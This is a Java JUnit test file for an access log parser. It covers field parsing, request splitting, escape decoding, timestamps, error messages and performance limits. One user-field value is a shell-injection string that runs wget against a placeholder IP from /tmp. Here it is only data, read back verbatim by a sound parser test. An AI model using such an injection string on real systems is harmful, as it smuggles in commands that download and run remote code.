package dev.millrace.transforms.accesslog;

import static dev.millrace.transforms.accesslog.Reading.entry;
import static dev.millrace.transforms.accesslog.Reading.rejection;
import static org.hamcrest.MatcherAssert.assertThat;
import static org.hamcrest.Matchers.is;
import static org.hamcrest.Matchers.nullValue;
import static org.junit.jupiter.api.Assertions.assertTimeout;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.stream.Stream;
import org.joda.time.Instant;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class AccessLogParserTest {
  private static final LogFormat COMBINED = LogFormat.of("combined");
  private static final LogFormat COMMON = LogFormat.of("common");
  private static final String TIME = "[10/Oct/2000:13:55:36 -0700]";
  private static final Instant INSTANT = Instant.parse("2000-10-10T20:55:36Z");

  private static final AccessLogEntry ENTRY =
      new AccessLogEntry(
          "192.0.2.7",
          "",
          "frank",
          INSTANT,
          "GET",
          "/a.gif?b=c",
          "HTTP/1.0",
          "GET /a.gif?b=c HTTP/1.0",
          200,
          2326,
          "http://example.com/",
          "Mozilla/4.08");

  private static final String LINE =
      "192.0.2.7 - frank "
          + TIME
          + " \"GET /a.gif?b=c HTTP/1.0\" 200 2326 \"http://example.com/\" \"Mozilla/4.08\"";

  @Test
  void readsEveryFieldOfACombinedLine() {
    assertThat(entry(COMBINED, LINE), is(ENTRY));
  }

  static Stream<String> readsTheSameThroughWhatLiesAroundALine() {
    return Stream.of(
        LINE + "\r\n",
        LINE + "\r",
        "  \t" + LINE + " \t ",
        '"' + LINE + '"',
        '"' + LINE,
        " \"" + LINE + "\" \r",
        LINE.substring(0, LINE.length() - 1),
        LINE + " \"2.75\"",
        LINE + " - 115052 5.6.7.8",
        LINE + " \"a \\\" quoted one\" [plain one]");
  }

  @ParameterizedTest
  @MethodSource
  void readsTheSameThroughWhatLiesAroundALine(String line) {
    assertThat(entry(COMBINED, line), is(ENTRY));
  }

  @Test
  void readsOnlyTheGivenPartOfTheBuffer() {
    byte[] buffer = ("x 99\"" + LINE + "\"- 7").getBytes(StandardCharsets.UTF_8);
    AccessLogLine line = new AccessLogLine();
    AccessLogParser parser = AccessLogParser.of(COMBINED);

    assertThat(parser.parse(buffer, 5, 5 + LINE.length(), line), is(nullValue()));
    assertThat(line.toEntry(), is(ENTRY));
  }

  @ParameterizedTest
  @CsvSource({
    "2001:db8::8a2e:370:7334, 2001:db8::8a2e:370:7334",
    "::1, ::1",
    "pipe6.nyc.pipeline.com, pipe6.nyc.pipeline.com",
    "-, ''",
  })
  void readsClients(String written, String client) {
    String line = written + " - - " + TIME + " \"GET / HTTP/1.1\" 200 5";

    assertThat(entry(COMMON, line).client(), is(client));
  }

  static Stream<Arguments> readsUsers() {
    return Stream.of(
        Arguments.of("-", ""),
        Arguments.of("", ""),
        Arguments.of("\"\"", ""),
        Arguments.of("frank", "frank"),
        Arguments.of("Frank N. Furter", "Frank N. Furter"),
        Arguments.of("a@b.example", "a@b.example"),
        Arguments.of(
            "';echo '[S]';cd /tmp; wget 192.0.2.1/x;'", "';echo '[S]';cd /tmp; wget 192.0.2.1/x;'"),
        Arguments.of("a [b", "a [b"),
        Arguments.of("a [b] ", "a [b] "),
        Arguments.of("[10/Oct/2000:13:55:36 -0700", "[10/Oct/2000:13:55:36 -0700"),
        Arguments.of("\\x22quoted\\x22 \\\"too\\\"", "\"quoted\" \"too\""));
  }

  @ParameterizedTest
  @MethodSource
  void readsUsers(String written, String user) {
    String line = "192.0.2.7 - " + written + " " + TIME + " \"GET / HTTP/1.1\" 200 5";

    assertThat(entry(COMMON, line).user(), is(user));
  }

  static Stream<Arguments> splitsRequests() {
    return Stream.of(
        request("GET / HTTP/1.1", "GET", "/", "HTTP/1.1"),
        request("GET / HTTP/2.0", "GET", "/", "HTTP/2.0"),
        request("GET / HTTP/3", "GET", "/", "HTTP/3"),
        request("GET / HTTP/V1.0", "GET", "/", "HTTP/V1.0"),
        request("VERSION-CONTROL /a HTTP/1.1", "VERSION-CONTROL", "/a", "HTTP/1.1"),
        request("SSTP_DUPLEX_POST /a HTTP/1.1", "SSTP_DUPLEX_POST", "/a", "HTTP/1.1"),
        request("CONNECT example.com:443 HTTP/1.1", "CONNECT", "example.com:443", "HTTP/1.1"),
        request("GET /ksc.html", "GET", "/ksc.html", ""),
        request("GET /a b c HTTP/1.0", "GET", "/a b c", "HTTP/1.0"),
        request("GET /a b c", "GET", "/a b c", ""),
        request("GET /a   HTTP/1.0", "GET", "/a  ", "HTTP/1.0"),
        request("GET  HTTP/1.0", "GET", "", "HTTP/1.0"),
        request("GET /tail HTTP/1. ", "GET", "/tail HTTP/1. ", ""),
        request("GET /tail HTTP/1.1 ", "GET", "/tail HTTP/1.1 ", ""),
        request("GET HTTP/1.0", "GET", "HTTP/1.0", ""),
        request("GET /a http/1.0", "GET", "/a http/1.0", ""),
        request("GET /a HTT", "GET", "/a HTT", ""),
        request("GET /a ", "GET", "/a ", ""),
        request("t3 12.1.2", "t3", "12.1.2", ""),
        request("SSH-2.0-Go", "", "", ""),
        request("GET", "", "", ""),
        request(" GET / HTTP/1.1", "", "", ""),
        request("3 / HTTP/1.1", "", "", ""),
        request("{\"id\": 1}", "", "", ""));
  }

  private static Arguments request(String request, String method, String target, String protocol) {
    return Arguments.of(request, method, target, protocol);
  }

  @ParameterizedTest
  @MethodSource
  void splitsRequests(String request, String method, String target, String protocol) {
    String escaped = request.replace("\"", "\\\"");
    AccessLogEntry entry = entry(COMMON, "::1 - - " + TIME + " \"" + escaped + "\" 400 0");

    assertThat(entry.request(), is(request));
    assertThat(entry.method(), is(method));
    assertThat(entry.target(), is(target));
    assertThat(entry.protocol(), is(protocol));
  }

  @ParameterizedTest
  @ValueSource(strings = {"\"-\"", "\"\"", "-"})
  void readsAnAbsentRequestAsAnEmptyOne(String written) {
    AccessLogEntry entry =
        entry(COMBINED, "::1 - - " + TIME + " " + written + " 408 - \"-\" \"-\"");

    assertThat(
        entry, is(new AccessLogEntry("::1", "", "", INSTANT, "", "", "", "", 408, 0, "", "")));
  }

  static Stream<Arguments> decodesWhatServersEscape() {
    return Stream.of(
        Arguments.of("a \\\"b\\\" c", "a \"b\" c"),
        Arguments.of("a\\\\", "a\\"),
        Arguments.of("\\\\\\\"", "\\\""),
        Arguments.of("\\x22\\x5C\\x5c", "\"\\\\"),
        Arguments.of("\\x16\\x03\\x01\\x00", "\u0016\u0003\u0001\u0000"),
        Arguments.of("\\u0016\\u00e4", "\u0016\u00e4"),
        Arguments.of("\\t\\n\\r\\b\\v", "\t\n\r\b\u000b"),
        Arguments.of("\\xe2\\x82\\xac", "\u20ac"),
        Arguments.of("\\xe4\\xff", "\u00e4\u00ff"),
        Arguments.of("\u20ac\u00e4", "\u20ac\u00e4"),
        Arguments.of("\\xZZ\\x2", "\\xZZ\\x2"),
        Arguments.of("\\u12", "\\u12"),
        Arguments.of("http:\\\\www.example.com\\a", "http:\\www.example.com\\a"),
        Arguments.of("\\www", "\\www"));
  }

  @ParameterizedTest
  @MethodSource
  void decodesWhatServersEscape(String written, String decoded) {
    String line =
        String.format(
            "::1 - - %s \"GET %s HTTP/1.1\" 200 1 \"%s\" \"%s\"", TIME, written, written, written);

    AccessLogEntry entry = entry(COMBINED, line);

    assertThat(entry.target(), is(decoded));
    assertThat(entry.referrer(), is(decoded));
    assertThat(entry.agent(), is(decoded));
  }

  @Test
  void readsBytesThatAreNotUtf8AsLatin1FieldByField() {
    byte[] line =
        ("::1 - J\u00f6rg "
                + TIME
                + " \"GET /\u00fc HTTP/1.1\" 200 1 \"\\xe2\\x82\\xac\" \"\u00ff\"")
            .getBytes(StandardCharsets.ISO_8859_1);

    AccessLogEntry entry = entry(COMBINED, line);

    assertThat(entry.user(), is("J\u00f6rg"));
    assertThat(entry.target(), is("/\u00fc"));
    assertThat(entry.referrer(), is("\u20ac"));
    assertThat(entry.agent(), is("\u00ff"));
  }

  static Stream<Arguments> forgivesQuotesThatNobodyEscaped() {
    return Stream.of(
        // The first is from a server of 1995, where it stood so.
        Arguments.of(
            "\"GET /images/\" HTTP/1.0\" 404 - \"-\" \"x\"", "GET /images/\" HTTP/1.0", "x"),
        Arguments.of(
            "\"GET / HTTP/1.0\" 404 - \"-\" \"a \"quoted\" b\"",
            "GET / HTTP/1.0",
            "a \"quoted\" b"),
        Arguments.of(
            "\"GET /\" 1\" 2\" HTTP/1.0\" 404 - \"-\" \"x\"", "GET /\" 1\" 2\" HTTP/1.0", "x"),
        Arguments.of("\"GET \\www\\\" 404 - \"-\" \"x\"", "GET \\www\\", "x"));
  }

  @ParameterizedTest
  @MethodSource
  void forgivesQuotesThatNobodyEscaped(String rest, String request, String agent) {
    AccessLogEntry entry = entry(COMBINED, "::1 - - " + TIME + " " + rest);

    assertThat(entry.request(), is(request));
    assertThat(entry.status(), is(404));
    assertThat(entry.agent(), is(agent));
  }

  @Test
  void readsAFieldThatClosesTheLineOnlyToItsEndIfTheLineWasCut() {
    String line =
        "::1 - - " + TIME + " \"GET / HTTP/1.1\" 200 1 \"-\" \"Mozilla/5.0 (compatible; \\\"x";

    assertThat(entry(COMBINED, line).agent(), is("Mozilla/5.0 (compatible; \"x"));
  }

  @ParameterizedTest
  @CsvSource({
    "200 5, 200, 5",
    "- -, 0, 0",
    "0 0, 0, 0",
    "009 7, 9, 7",
    "304 -, 304, 0",
    "200 999999999999999999, 200, 999999999999999999",
    "200  5, 200, 0",
  })
  void readsNumbers(String written, int status, long bytes) {
    AccessLogEntry entry = entry(COMMON, "::1 - - " + TIME + " \"GET / HTTP/1.1\" " + written);

    assertThat(entry.status(), is(status));
    assertThat(entry.bytes(), is(bytes));
  }

  @ParameterizedTest
  @CsvSource({
    "10/Oct/2000:13:55:36 -0700, 2000-10-10T20:55:36Z",
    "10/oct/2000:13:55:36 -0700, 2000-10-10T20:55:36Z",
    "10/OCT/2000:13:55:36 +0000, 2000-10-10T13:55:36Z",
    "29/Feb/2000:00:00:00 +0530, 2000-02-28T18:30:00Z",
    "31/Dec/1999:23:59:59 -1200, 2000-01-01T11:59:59Z",
    "01/Jan/1970:00:00:00 +1400, 1969-12-31T10:00:00Z",
    "2000-10-10T20:55:36Z, 2000-10-10T20:55:36Z",
    "2000-10-10T13:55:36-07:00, 2000-10-10T20:55:36Z",
    "2000-10-10T13:55:36.25-0700, 2000-10-10T20:55:36.250Z",
    "2000-10-10T13:55:36.123456-0700, 2000-10-10T20:55:36.123Z",
  })
  void readsTimes(String written, String instant) {
    String line = "::1 - - [" + written + "] \"GET / HTTP/1.1\" 200 5";

    assertThat(entry(COMMON, line).time(), is(Instant.parse(instant)));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "-",
        "",
        "1234",
        "10/Okt/2000:13:55:36 -0700",
        "10/Octo/2000:13:55:36 -0700",
        "31/Jun/2000:13:55:36 -0700",
        "29/Feb/1900:13:55:36 -0700",
        "00/Oct/2000:13:55:36 -0700",
        "10/Oct//000:13:55:36 -0700",
        "10/Oct/2000:24:00:00 -0700",
        "10/Oct/2000:13:60:36 -0700",
        "10/Oct/2000:13:55:60 -0700",
        "10/Oct/2000:1::55:36 -0700",
        "10/Oct/2000:13:55:3: -0700",
        "10/Oct/2000 13:55:36 -0700",
        "10/Oct/2000:13:55:36  0700",
        "10/Oct/2000:13:55:36 -07:0",
        "10/Oct/2000:13:55:36 -1960",
        "10/Oct/2000:13:55:36",
        "10-Oct-2000:13:55:36 -0700",
        "2000-10-10T20:55:36",
        "2000-13-10T20:55:36Z",
      })
  void rejectsWhatIsNoTime(String written) {
    String line = "::1 - - [" + written + "] \"GET / HTTP/1.1\" 200 5";

    assertThat(rejection(COMMON, line).reason(), is("bad-time"));
  }

  @Test
  void doesNotTakeTheDayOfALineForThatOfTheNext() {
    AccessLogParser parser = AccessLogParser.of(COMMON);
    AccessLogLine line = new AccessLogLine();
    String[] times = {
      "10/Oct/2000:23:59:59 -0700",
      "11/Oct/2000:00:00:00 -0700",
      "11/Oct/2000:00:00:00 -0730",
      "11/Oct/2001:00:00:00 -0730",
      "11/Nov/2001:00:00:00 -0730",
      "10/Oct/2000:23:59:59 -0700"
    };
    String[] instants = {
      "2000-10-11T06:59:59Z",
      "2000-10-11T07:00:00Z",
      "2000-10-11T07:30:00Z",
      "2001-10-11T07:30:00Z",
      "2001-11-11T07:30:00Z",
      "2000-10-11T06:59:59Z"
    };
    for (int i = 0; i < times.length; i++) {
      byte[] bytes =
          ("::1 - - [" + times[i] + "] \"GET / HTTP/1.1\" 200 5").getBytes(StandardCharsets.UTF_8);

      assertThat(parser.parse(bytes, 0, bytes.length, line), is(nullValue()));
      assertThat(Instant.ofEpochMilli(line.time()), is(Instant.parse(instants[i])));
    }
  }

  @Test
  void forgetsTheFieldsOfTheLineBefore() {
    AccessLogParser parser = AccessLogParser.of(COMBINED);
    AccessLogLine line = new AccessLogLine();
    byte[] full = LINE.getBytes(StandardCharsets.UTF_8);
    byte[] bare = ("- - - " + TIME + " \"-\" - - - -").getBytes(StandardCharsets.UTF_8);

    assertThat(parser.parse(full, 0, full.length, line), is(nullValue()));
    assertThat(parser.parse(bare, 0, bare.length, line), is(nullValue()));

    assertThat(
        line.toEntry(), is(new AccessLogEntry("", "", "", INSTANT, "", "", "", "", 0, 0, "", "")));
  }

  static Stream<Arguments> saysWhatIsWrongAndWhere() {
    String start = "::1 - - " + TIME + " ";
    return Stream.of(
        rejected("", "empty", "Empty line: nothing but blanks in 0 bytes"),
        rejected(" \t\r\n", "empty", "Empty line: nothing but blanks in 4 bytes"),
        rejected(
            "not a common log line",
            "missing-field",
            "Missing field %t: not found in column 7 or later: 'common log line' (is the log format"
                + " right?)"),
        rejected(
            "::1",
            "missing-field",
            "Missing field %l: not found in column 1 or later: '::1' (is the log format right?)"),
        rejected(
            "::1 - - [10/Oct/2000:99:55:36 -0700] \"GET / HTTP/1.1\" 200 5",
            "bad-time",
            "Invalid time %t in column 10: '10/Oct/2000:99:55:36 -0700] \"GET / HTTP/1.1\" 200 5'"
                + " (must be like 10/Oct/2000:13:55:36 -0700)"),
        rejected(
            "::1 - - [10/Oct/2000:13:55:36 -07000] \"GET / HTTP/1.1\" 200 5",
            "wrong-separator",
            "Unexpected text after %t in column 36: '0] \"GET / HTTP/1.1\" 200 5' (must be '] ')"),
        rejected(
            "::1 - a \"b\" c " + TIME + " \"GET / HTTP/1.1\" 200 5 \"-\" \"-\"",
            "wrong-separator",
            "Unexpected text after %u in column 9: '\"b\" c [10/Oct/2000:13:55:36 -0700] \"GET /"
                + " HTTP/1.1\" 200 5 \"-...' (must be ' [')"),
        rejected(
            start + "GET / HTTP/1.1 200 5 \"-\" \"-\"",
            "wrong-separator",
            "No quote before %r in column 38: 'GET / HTTP/1.1 200 5 \"-\" \"-\"' (must be \" or"
                + " -)"),
        rejected(
            start + "\"GET / HTTP/1.1 200 5",
            "unclosed-quote",
            "Unclosed quote of %r in column 38: '\"GET / HTTP/1.1 200 5' (must end with a quote"
                + " followed by ' ')"),
        rejected(
            start + "\"GET / HTTP/1.1\" 2000 5 \"-\" \"-\"",
            "bad-status",
            "Invalid status %>s in column 55: '2000' (must be three digits or -)"),
        rejected(
            start + "\"GET / HTTP/1.1\" \u0007\u00ff 5 \"-\" \"-\"",
            "bad-status",
            "Invalid status %>s in column 55: '\\x07\\xC3\\xBF' (must be three digits or -)"),
        rejected(
            start + "\"GET / HTTP/1.1\" 200 5x \"-\" \"-\"",
            "bad-bytes",
            "Invalid number of bytes %b in column 59: '5x' (must be a number or -)"),
        rejected(
            start + "\"GET / HTTP/1.1\" 200 1000000000000000000 \"-\" \"-\"",
            "bad-bytes",
            "Invalid number of bytes %b in column 59: '1000000000000000000' (must be a number or"
                + " -)"),
        rejected(
            start + "\"GET / HTTP/1.1\" 200 5",
            "missing-field",
            "Missing field %{Referer}i: not found in column 59 or later: '5' (is the log format"
                + " right?)"),
        rejected(
            start + "\"GET / HTTP/1.1\" 200 5 \"-\"",
            "missing-field",
            "Missing field %{User-Agent}i: the line ends before it, in column 63 (is the log format"
                + " right?)"));
  }

  private static Arguments rejected(String line, String reason, String message) {
    return Arguments.of(line, reason, message);
  }

  @ParameterizedTest
  @MethodSource
  void saysWhatIsWrongAndWhere(String line, String reason, String message) {
    assertThat(rejection(COMBINED, line), is(new Rejection(reason, message)));
  }

  @Test
  void rejectsLinesOfMoreThanOneMebibyte() {
    String longest = LINE.substring(0, LINE.length() - 1);
    longest += "x".repeat((1 << 20) - longest.length());

    assertThat(entry(COMBINED, longest).status(), is(200));
    assertThat(
        rejection(COMBINED, longest + "x"),
        is(new Rejection("too-long", "Line too long: 1048577 bytes (must be at most 1048576)")));
  }

  @ParameterizedTest
  @ValueSource(strings = {"\" ", "\" 200 ", "\\", "\\\"", " [", " ", "\"", "\" \"", "\" x", "-"})
  void readsWhateverALineIsMadeOfInAMomentsTime(String piece) {
    String line = "::1 - - " + TIME + " \"" + piece.repeat((1 << 20) / piece.length() - 50) + "\"x";

    // A quadratic search would take hours.
    assertTimeout(
        Duration.ofSeconds(20),
        () -> AccessLogEntries.of(COMBINED).parse(line.getBytes(StandardCharsets.UTF_8)));
  }
}
